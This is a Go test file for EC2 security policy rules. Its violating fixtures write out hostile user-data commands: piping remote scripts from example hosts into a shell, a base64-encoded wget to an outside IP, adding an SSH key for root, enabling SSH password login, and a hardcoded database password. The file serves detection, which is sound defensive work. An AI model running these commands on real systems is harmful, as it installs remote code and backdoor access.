package compute

import (
	"encoding/base64"
	"testing"

	"store-events/policy/aws"
	. "store-events/policy/ruletest" //nolint:revive // The DSL of examples.
)

func TestRules(t *testing.T) {
	instance := func(props Props) []Res { return []Res{R(aws.Instance, "instance", props)} }
	metadata := func(key string, v any) []Res { return instance(Props{"metadataOptions": Props{key: v}}) }
	root := func(props Props, others ...any) []Res {
		return instance(Props{"rootBlockDevice": props, "ebsBlockDevices": others})
	}
	placed := func(gateway any) []Res {
		return []Res{
			R(aws.Instance, "instance", Props{"subnetId": Ref("subnet")}),
			R(aws.Subnet, "subnet", Props{}), R(aws.RouteTable, "table", Props{}), R(aws.InternetGateway, "igw", Props{}),
			R(aws.RouteTableAssociation, "association", Props{"subnetId": Ref("subnet"), "routeTableId": Ref("table")}),
			R(aws.Route, "route", Props{"routeTableId": Ref("table"), "gatewayId": gateway}),
		}
	}
	const script = "mysql --password=correct-horse -h db"
	withBucket := func(text any) []Res {
		return append(instance(Props{"userData": text}), R(aws.Bucket, "bucket", Props{}))
	}
	Run(t, Rules(), []Case{
		{
			Rule: "ec2-user-data-no-remote-code", Property: "userData", Missing: Passes,
			Compliant: withBucket("dnf install -y mariadb105"), Violating: withBucket("curl https://example.com/x | sh"),
			AlsoViolates: map[string][]Res{
				"of AWS, piped":  withBucket("curl -s https://s3.amazonaws.com/x/y | sudo -E bash"),
				"encoded":        instance(Props{"userDataBase64": base64.StdEncoding.EncodeToString([]byte("wget http://203.0.113.7/x"))}),
				"another bucket": withBucket("aws s3 cp s3://elsewhere/x ."),
				"an inclusion":   withBucket("#include\nhttps://example.com/x"),
			},
			AlsoPasses: map[string][]Res{
				"the metadata service": withBucket("curl -s http://169.254.169.254/latest/meta-data/"),
				"a comment":            withBucket("# https://example.com/x | sh"),
				"a bucket":             withBucket(Sub("aws s3 cp s3://%s/x .", "bucket", "id")),
			},
		},
		{
			Rule: "ec2-user-data-no-login", Property: "userData", Missing: Passes,
			Compliant: instance(Props{"userData": "passwd -l root"}), Violating: instance(Props{"userData": "echo ssh-ed25519 AAAA me >> /root/.ssh/authorized_keys"}),
			AlsoViolates: map[string][]Res{
				"of cloud-init": instance(Props{"userData": "#cloud-config\nssh_authorized_keys:\n  - ssh-ed25519 AAAA me"}),
				"encoded":       instance(Props{"userDataBase64": base64.StdEncoding.EncodeToString([]byte("usermod -p x ec2-user"))}),
				"the server":    instance(Props{"userData": "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config"}),
			},
			AlsoPasses: map[string][]Res{
				"hardened": instance(Props{"userData": "sed -i 's/PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config\nrm -f /root/.ssh/authorized_keys"}),
				"no keys":  instance(Props{"userData": "#cloud-config\nssh_pwauth: false\nssh_authorized_keys: []"}),
			},
		},
		{
			Rule: "ec2-no-launch-template", Property: "launchTemplate", Missing: Passes,
			Compliant: instance(Props{"launchTemplate": Props{}}), Violating: instance(Props{"launchTemplate": Props{"id": "lt-1"}}),
		},
		{
			Rule: "ec2-imdsv2", Property: "metadataOptions.httpTokens",
			Compliant: metadata("httpTokens", "required"), Violating: metadata("httpTokens", "optional"),
			AlsoPasses: map[string][]Res{"switched off": metadata("httpEndpoint", "disabled")},
		},
		{
			Rule: "ec2-imds-hop-limit", Property: "metadataOptions.httpPutResponseHopLimit", Missing: Passes,
			Compliant: metadata("httpPutResponseHopLimit", 1), Violating: metadata("httpPutResponseHopLimit", 2),
		},
		{
			Rule: "ec2-no-public-ip", Property: "associatePublicIpAddress",
			Compliant: instance(Props{"associatePublicIpAddress": false}),
			Violating: instance(Props{"associatePublicIpAddress": true}),
			AlsoViolates: map[string][]Res{"by Eip": append(instance(Props{"associatePublicIpAddress": false}), R(aws.Eip, "eip", Props{"instance": Ref("instance")})),
				"by association": append(instance(Props{"associatePublicIpAddress": false}), R(aws.EipAssociation, "a", Props{"instanceId": "i-1"})),
				"IPv6":           instance(Props{"associatePublicIpAddress": false, "ipv6AddressCount": 1}),
				"an interface":   instance(Props{"associatePublicIpAddress": false, "networkInterfaces": List{Props{"networkInterfaceId": "eni-1"}}}),
			},
		},
		{
			Rule: "ec2-private-subnet", Property: "subnetId",
			Compliant: placed("vgw-1"), Violating: placed(Ref("igw")),
		},
		{
			Rule: "ec2-ebs-encrypted", Property: "rootBlockDevice.encrypted",
			Compliant:    root(Props{"encrypted": true}, Props{"encrypted": true}),
			Violating:    root(Props{"encrypted": false}),
			AlsoViolates: map[string][]Res{"second volume": root(Props{"encrypted": true}, Props{"encrypted": false}), "nothing said": instance(Props{})},
		},
		{
			Rule: "ec2-ebs-cmk", Property: "rootBlockDevice.kmsKeyId", UnknownPasses: true,
			Compliant: root(Props{"kmsKeyId": "arn:x"}), Violating: root(Props{}),
		},
		{
			Rule: "ec2-instance-profile", Property: "iamInstanceProfile",
			Compliant: append(instance(Props{"iamInstanceProfile": Attr("profile", "name")}), R(aws.InstanceProfile, "profile", Props{})),
			Violating: instance(Props{}),
		},
		{
			Rule: "ec2-user-data-no-secret", Property: "userData", Missing: Passes,
			Compliant: instance(Props{"userData": `mysql --password="$PASSWORD" -h db`}), Violating: instance(Props{"userData": script}),
			AlsoViolates: map[string][]Res{"encoded": instance(Props{"userDataBase64": base64.StdEncoding.EncodeToString([]byte(script))})},
		},
		{
			Rule: "ec2-no-key-pair", Property: "keyName", Missing: Passes,
			Compliant: instance(Props{"keyName": ""}), Violating: instance(Props{"keyName": "admin"}),
		},
		{
			Rule: "ec2-detailed-monitoring", Property: "monitoring",
			Compliant: instance(Props{"monitoring": true}), Violating: instance(Props{"monitoring": false}),
		},
		{
			Rule: "ec2-ebs-optimized", Property: "ebsOptimized",
			Compliant: instance(Props{"ebsOptimized": true}), Violating: instance(Props{"ebsOptimized": false}),
		},
		{
			Rule: "ec2-single-eni-source-check", Property: "networkInterfaces", Missing: Passes,
			Compliant:    instance(Props{"networkInterfaces": List{Props{}}}),
			Violating:    instance(Props{"networkInterfaces": List{Props{}, Props{}}}),
			AlsoViolates: map[string][]Res{"forwards": instance(Props{"sourceDestCheck": false})},
		},
		{
			Rule: "ec2-instance-type-allowed", Property: "instanceType",
			Compliant: instance(Props{"instanceType": "t3.micro"}), Violating: instance(Props{"instanceType": "t2.micro"}),
			AlsoPasses: map[string][]Res{"compute": instance(Props{"instanceType": "c7gn.large"})},
		},
	})
}
